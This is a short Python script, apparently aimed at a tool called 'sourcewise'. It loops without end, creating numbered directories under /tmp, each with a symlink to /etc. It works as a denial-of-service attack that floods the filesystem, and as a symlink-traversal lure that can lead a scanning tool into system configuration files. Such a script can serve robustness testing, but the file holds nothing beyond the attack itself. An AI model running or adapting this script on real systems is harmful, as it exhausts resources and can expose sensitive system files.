"""Makes files, folders and links without end."""

import os

n = 0
while True:
    n += 1
    try:
        os.mkdir(f"/tmp/sourcewise_attack_{n}")
        os.symlink("/etc", f"/tmp/sourcewise_attack_{n}/link")
    except OSError:
        pass
